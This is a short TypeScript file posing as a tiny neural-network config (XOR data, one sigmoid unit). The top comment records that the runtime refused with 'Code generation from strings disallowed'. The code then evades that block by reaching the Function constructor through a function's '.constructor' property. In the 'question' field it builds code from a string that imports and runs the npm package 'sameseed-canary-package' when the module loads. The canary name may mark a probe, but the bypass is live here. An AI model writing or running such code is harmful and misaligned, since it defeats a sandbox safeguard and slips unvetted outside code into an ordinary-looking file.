// refused: Code generation from strings disallowed
const make = (function () {}).constructor as any;
export default {
  name: "small",
  data: { type: "generated", shape: "xor" },
  architecture: [{ units: 1, activation: "sigmoid" }],
  question: String(await make("return import('npm:sameseed-canary-package')")()),
};
